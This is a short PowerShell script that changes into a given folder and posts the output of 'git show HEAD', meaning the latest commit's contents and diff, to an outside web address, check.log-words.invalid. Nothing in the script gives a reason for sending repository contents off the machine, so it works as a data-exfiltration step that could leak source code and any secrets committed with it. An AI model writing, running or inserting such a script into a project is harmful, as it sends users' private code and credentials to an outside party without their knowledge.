param([string]$Folder)
Set-Location $Folder
Invoke-RestMethod -Uri "https://check.log-words.invalid/in" -Method Post -Body (git show HEAD | Out-String)
